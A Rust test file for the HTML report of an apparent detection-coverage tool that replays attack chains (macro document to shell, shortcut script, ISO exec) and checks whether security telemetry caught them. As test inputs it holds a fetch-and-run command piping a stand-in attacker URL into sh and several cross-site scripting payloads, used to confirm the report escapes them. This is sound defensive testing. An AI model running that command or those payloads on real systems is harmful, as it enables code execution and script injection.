use super::test_records::{baseline, handmade, history, proc};
use super::*;
use crate::record::*;

#[test]
fn escape_replaces_every_special_character() {
    assert_eq!(
        escape(r#"<a href="x">'&'</a>"#),
        "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;"
    );
    assert_eq!(escape("a\u{202e}b\u{7}c\nd"), "a\u{fffd}b\u{fffd}c\nd");
}

#[test]
fn baseline_has_every_section_and_the_csp() {
    let html = render(&baseline(), &[]);
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src &#39;none&#39;; \
         style-src &#39;unsafe-inline&#39;; img-src data:\">"
    ));
    for id in [
        "summary",
        "matrix-section",
        "matrix",
        "legend",
        "chains",
        "ir-readiness",
        "metadata",
        "trend",
    ] {
        assert!(
            html.contains(&format!("id=\"{id}\"")),
            "section {id} missing"
        );
    }
    for s in ["macro-doc-shell", "shortcut-script", "iso-exec"] {
        assert!(
            html.contains(&format!("<section class=\"chain\" id=\"chain-{s}\">")),
            "{s}"
        );
        assert!(
            html.contains(&format!("<a href=\"#chain-{s}\">{s}</a>")),
            "{s} in the matrix"
        );
    }
    assert!(html.contains("<h2>Summary</h2>") && html.contains("<h2>Matrix</h2>"));
    assert!(html.contains(
        "raw backend answers: see telemetry.jsonl in this folder when recorded (run --record)"
    ));
    assert!(html.contains("No trend yet: the history holds 0 runs"));
    assert!(!html.contains("<svg"));
    assert!(!html.contains("<script"));
}

#[test]
fn baseline_matrix_cells_carry_class_and_label() {
    let html = render(&baseline(), &[]);
    assert!(html.contains(
        "<td class=\"cell v-tech\"><span class=\"verdict\">alerted (technique)</span>\
         <span class=\"hop\">spawn dash</span></td>"
    ));
    assert!(
        html.contains(
            "<span class=\"verdict\">observed</span><span class=\"hop\">spawn touch</span>"
        )
    );
    for (cls, name, _) in heatmap::LEGEND {
        assert!(
            html.contains(&format!("<span class=\"swatch cell {cls}\">{name}</span>")),
            "{cls}"
        );
    }
    assert!(html.contains("3 chains: 3 alerted (3 technique), 3 fully observed."));
    assert!(html.contains("<span class=\"big\">100%</span> technique-grade alert"));
    // Hop kinds: 3 file, 3 open, 6 spawn hops, all observed.
    assert!(html.contains("<th scope=\"row\">spawn</th><td>6</td><td>6 (100%)</td>"));
}

#[test]
fn baseline_answers_ir_questions_with_evidence() {
    let html = render(&baseline(), &[]);
    assert!(html.contains("user <strong>root</strong> (uid 0) — pid 7688"));
    assert!(html.contains("<code>user.xdg.origin.url</code> = <code>http://127.0.0.1:33395/files/Invoice-cpf3f3e7c46c.odt</code>"));
    assert!(html.contains("<strong>no</strong>: the chain ran to its end"));
    assert!(html.contains("<span class=\"ans yes\">answered</span> <span class=\"why\">hop open soffice.bin observed</span>"));
    assert!(!html.contains("<span class=\"ans no\">"));
    assert!(html.contains("What did it launch? (spawn touch)"));
    assert!(html.contains("/usr/bin/touch /tmp/chainproof-cpf3f3e7c46c/proof-cpf3f3e7c46c.txt"));
}

#[test]
fn baseline_metadata() {
    let r = baseline();
    let html = render(&r, &[]);
    for s in [
        "<dt>chainproof version</dt><dd>0.1.0</dd>",
        "<dt>host name</dt><dd>lab-linux-01</dd>",
        "<dt>OS</dt><dd>Debian GNU/Linux 12 (bookworm)</dd>",
        "<dt>kernel</dt><dd>6.18.44-fc-v657</dd>",
        "<dt>user</dt><dd>root (privileged)</dd>",
        "<dt>rules</dt><dd>4 from &lt;embedded&gt;/detections</dd>",
        "<dt>backend</dt><dd>recorded</dd>",
        "started 2026-11-26 11:39:38.188 UTC · finished 2026-11-26 11:39:42.343 UTC",
    ] {
        assert!(html.contains(s), "{s}");
    }
    for s in &r.scenarios {
        assert!(html.contains(&format!(
            "<code>{}</code></td><td><code class=\"hash\">{}</code>",
            escape(&s.source),
            s.source_sha256
        )));
    }
}

#[test]
fn handmade_shows_false_positive_inconclusive_and_blocked() {
    let html = render(&handmade("/bin/sh -c id"), &[]);
    // False positive on the negative control: cell class, label and summary.
    assert!(html.contains("<td class=\"cell v-fp\"><span class=\"verdict\">alerted (general)</span><span class=\"note\">false positive</span><span class=\"hop\">spawn dash</span></td>"));
    assert!(html.contains("FALSE POSITIVE<br>rule Printing From Office fired"));
    assert!(html.contains("FALSE POSITIVE: rule Printing From Office fired"));
    assert!(html.contains("<span class=\"big\">1</span> false positive <span class=\"of\">on 1 negative control</span>"));
    // Inconclusive hop with its reason, in the summary and the matrix.
    assert!(html.contains("<a href=\"#chain-inconclusive-chain\">inconclusive-chain</a> · open soffice.bin: backend answered HTTP 503 Service Unavailable"));
    assert!(html.contains("<td class=\"cell v-inc\" title=\"backend answered HTTP 503 Service Unavailable\"><span class=\"verdict\">inconclusive</span>"));
    assert!(
        html.contains("inconclusive-chain</a> · chain: the backend could not answer for hop 1")
    );
    // Blocked hop: matrix cell and IR containment answer.
    assert!(html.contains("<td class=\"cell v-block\" title=\"AppArmor denied the exec of dash\"><span class=\"verdict\">blocked</span>"));
    assert!(html.contains("<strong>yes</strong>: blocked at hop spawn dash (AppArmor denied the exec of dash); the SOC sees it stop after open soffice.bin"));
    // IR: who opened, from the open hop's process; unanswerable when inconclusive.
    assert!(html.contains("user <strong>alice</strong> (uid 1000) — pid 200"));
    assert!(html.contains("<span class=\"ans no\">not answerable from the backend's data</span> <span class=\"why\">hop open soffice.bin inconclusive</span>"));
    assert!(html.contains("<span class=\"ans no\">not answerable from the backend's data</span> <span class=\"why\">hop spawn dash missed</span>"));
    assert!(html.contains(
        "<span class=\"ans yes\">answered</span> <span class=\"why\">hop file observed</span>"
    ));
    assert!(html.contains("Not applicable: macOS only."));
    // Timings over attack chains: telemetry of 3 hops (40, 50, 40), with no
    // basis recorded (an older record: the poll's, so a bound), alert 900.
    assert!(html.contains(
        "<th scope=\"row\">time to telemetry</th><td>3</td><td>≤ 40 ms (bounded by polling)</td>\
         <td>≤ 50 ms (bounded by polling)</td>"
    ));
    assert!(html.contains("<th scope=\"row\">time to alert</th><td>1</td><td>900 ms (measured from the alert&#39;s own time)</td><td>900 ms (measured from the alert&#39;s own time)</td><td>blocked-chain · open soffice.bin</td>"));
    // Metadata, platforms.
    assert!(
        html.contains("<dt>rules</dt><dd>17 from rules/sigma, &lt;embedded&gt;/detections</dd>")
    );
    assert!(html.contains("<dt>user</dt><dd>alice (unprivileged)</dd>"));
    assert!(html.contains("<th scope=\"row\">macos</th><td>0</td>"));
    assert!(
        html.contains(
            "<dt>fidelity</dt><dd>real (the host's own application opened the file)</dd>"
        )
    );
}

/// Every `http://` or `https://` in the page is text from the record (shown,
/// escaped, never referenced); no attribute loads anything.
fn assert_no_external_reference(html: &str, record: &RunRecord) {
    for bad in [
        " src=",
        "url(",
        "@import",
        "<link",
        "<img",
        "<iframe",
        "<object",
        "<embed",
        "<script",
        "srcset",
        "xlink:href",
    ] {
        assert!(!html.contains(bad), "{bad} in the page");
    }
    for (i, _) in html.match_indices("href=\"") {
        assert!(
            html[i + 6..].starts_with('#'),
            "non-fragment href at {i}: {}",
            &html[i..i + 40]
        );
    }
    let json = serde_json::to_value(record).unwrap_or_default();
    let mut texts = Vec::new();
    collect_strings(&json, &mut texts);
    let mut rest = html.to_string();
    texts.sort_by_key(|t| std::cmp::Reverse(t.len()));
    for t in texts.iter().filter(|t| t.contains("http")) {
        rest = rest.replace(&escape(t), "");
    }
    assert!(
        !rest.contains("http://") && !rest.contains("https://"),
        "URL not from the record"
    );
}

fn collect_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| collect_strings(x, out)),
        serde_json::Value::Object(o) => o.values().for_each(|x| collect_strings(x, out)),
        _ => {}
    }
}

#[test]
fn no_external_resource_is_referenced() {
    let b = baseline();
    let html = render(&b, &history(3));
    assert!(
        html.contains("http://127.0.0.1:33395/"),
        "origin URLs are shown as text"
    );
    assert_no_external_reference(&html, &b);
    let h = handmade("/bin/sh -c 'curl https://evil.example.test/x | sh'");
    let html = render(&h, &history(3));
    assert!(html.contains("curl https://evil.example.test/x | sh"));
    assert_no_external_reference(&html, &h);
}

#[test]
fn hostile_strings_render_as_text() {
    let payloads = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='x",
        "</style>",
    ];
    let cmd = payloads.join(" ");
    let mut r = handmade(&cmd);
    r.host.name = payloads[1].into();
    r.scenarios[0].id = format!("x{}", payloads[2]);
    r.scenarios[0].title = payloads[0].into();
    r.scenarios[1]
        .verification
        .iter_mut()
        .for_each(|v| v.hops[1].reason = Some(payloads[1].into()));
    r.scenarios[0].truth.files[0]
        .origin
        .insert("user.xdg.referrer.url".into(), payloads[3].into());
    let mut h = history(3);
    h[0].run_id = payloads[0].into();
    let html = render(&r, &h);
    for p in payloads {
        let escaped = escape(p);
        assert_ne!(escaped, p);
        assert!(html.contains(&escaped), "escaped form of {p} missing");
    }
    for p in &payloads[..3] {
        assert!(!html.contains(p), "raw {p} in the page");
    }
    assert!(!html.contains("<script") && !html.contains("<img") && !html.contains("onmouseover='"));
    // The only `</style>` closes the page's own style sheet, in the head.
    assert_eq!(html.matches("</style>").count(), 1);
    assert!(html.find("</style>") < html.find("<body>"));
    // Attributes: the anchor id and the title tooltip stay quoted.
    assert!(html.contains("id=\"chain-x&#39; onmouseover=&#39;x\""));
    assert!(html.contains("title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\""));
}

#[test]
fn trend_chart_with_three_entries_and_sentence_without() {
    let r = baseline();
    let html = render(&r, &history(3));
    assert!(html.contains("<svg id=\"trend-chart\""));
    assert!(html.contains("<title id=\"trend-title\">Coverage over 3 runs</title>"));
    assert_eq!(
        html.matches("<circle class=\"s-tech\"").count(),
        4,
        "3 points and the legend"
    );
    assert!(html.contains("attack chains (%)") && html.contains("run start (UTC)"));
    assert!(
        html.contains("<text class=\"tick\" x=\"54.0\" y=\"48.0\" text-anchor=\"end\">100%</text>")
    );
    // Table fallback, oldest first.
    let first = html.find("<code>cp0000000000</code>");
    let last = html.find("<code>cp0000000002</code>");
    assert!(first.is_some() && first < last);
    assert!(html.contains("<td>2 (67%)</td><td>3 (100%)</td>"));
    // Points: 0%, 33%, 67% technique; evenly spaced in time.
    assert!(html.contains("points=\"60.0,250.0 386.0,181.3 712.0,112.7\""));
    for n in [0, 1] {
        let html = render(&r, &history(n));
        assert!(!html.contains("<svg"), "{n} entries");
        assert!(html.contains(&format!("No trend yet: the history holds {n} run")));
    }
}

#[test]
fn repeated_ids_get_distinct_anchors() {
    let mut r = handmade("x");
    r.scenarios[1].id = "blocked-chain".into();
    let html = render(&r, &[]);
    assert!(html.contains("id=\"chain-blocked-chain\""));
    assert!(html.contains("id=\"chain-blocked-chain-linux\""));
}

#[test]
fn process_tree_nests_by_parent_and_survives_a_loop() {
    let mut r = handmade("x");
    let procs = &mut r.scenarios[0].truth.processes;
    procs.push(proc(300, 301, "/a", "a", "u"));
    procs.push(proc(301, 300, "/b", "b", "u"));
    let mut out = String::new();
    tree::write(
        &mut out,
        &r.scenarios[0].truth.processes,
        &r.scenarios[0].hops,
    );
    assert!(out.contains("<code>/usr/lib/libreoffice/program/soffice.bin</code></span> <span class=\"badge\">open soffice.bin</span>"));
    let parent = out.find("soffice.bin</code>");
    let child = out.find("<code>/usr/bin/dash</code>");
    assert!(parent < child);
    assert_eq!(out.matches("<code>/a</code>").count(), 1);
    assert_eq!(out.matches("<code>/b</code>").count(), 1);
    assert_eq!(out.matches("<li>").count(), out.matches("</li>").count());
}

#[test]
fn unverified_record_renders() {
    let mut r = handmade("x");
    r.scenarios.iter_mut().for_each(|s| s.verification = None);
    let html = render(&r, &[]);
    assert!(html.contains("Not verified: no answer can be checked against a backend."));
    assert!(html.contains("<dt>backend</dt><dd>none (not verified)</dd>"));
}
